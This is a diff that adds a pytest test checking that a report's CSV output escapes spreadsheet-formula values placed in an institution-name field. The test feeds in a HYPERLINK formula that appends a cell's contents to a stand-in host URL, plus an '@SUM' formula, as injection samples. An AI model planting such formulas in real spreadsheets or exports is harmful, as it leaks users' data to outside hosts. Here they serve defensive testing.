@@ -193,6 +193,21 @@ def test_files_are_written_with_a_gallery_of_the_most_flagged(
     assert {r["attribute"] for r in rows} >= {"InstitutionName", "BurnedInAnnotation"}
 
 
+def test_group_values_a_spreadsheet_would_run_are_quoted_in_the_csv(
+    runtime: Runtime, settings: Settings
+) -> None:
+    """Any sender chooses its InstitutionName; report.csv opens in a spreadsheet."""
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    add_cases(runtime, cases_at(formula, 3, 1) + cases_at("@SUM(1+1)", 3, 1))
+    row, _document = build(runtime, settings)
+    rows = list(
+        csv.DictReader(io.StringIO((report_folder(settings, row.id) / "report.csv").read_text()))
+    )
+    sites = {r["group"] for r in rows if r["attribute"] == "InstitutionName"}
+    assert sites == {f"'{formula}", "'@SUM(1+1)"}
+    assert all(not r["group"].startswith(("=", "+", "@")) for r in rows)
+
+
 def test_progress_is_reported_and_an_access_log_row_written(
     runtime: Runtime, settings: Settings
 ) -> None:
